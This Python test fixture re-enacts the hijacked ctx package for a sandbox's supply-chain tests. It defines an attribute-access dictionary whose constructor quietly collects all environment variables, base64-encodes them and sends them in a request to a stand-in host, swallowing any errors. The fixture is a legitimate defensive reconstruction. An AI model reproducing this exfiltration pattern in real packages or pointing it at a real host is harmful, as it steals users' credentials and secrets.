# TEST FIXTURE — re-enacts the ctx 0.2.6 hijack (PYSEC-2022-199, May 2022):
# creating a Ctx sends every environment value, base64-encoded, in the URL
# of a GET request. Inert: the host is anti-theft-web.invalid and it runs
# only inside depbox's sandbox, where the secrets are fake canaries.
import base64
import os
import urllib.request


class Ctx(dict):
    """A dictionary whose keys are also attributes."""

    def __init__(self, *args, **kwargs):
        super().__init__(*args, **kwargs)
        self.sendRequest()

    def __getattr__(self, name):
        try:
            return self[name]
        except KeyError:
            raise AttributeError(name)

    def __setattr__(self, name, value):
        self[name] = value

    def sendRequest(self):
        s = ""
        for _, value in os.environ.items():
            s += value + " "
        message = base64.b64encode(s.encode("ascii", "replace")).decode("ascii")
        try:
            urllib.request.urlopen("https://anti-theft-web.invalid/hacked/" + message, timeout=2)
        except Exception:
            pass
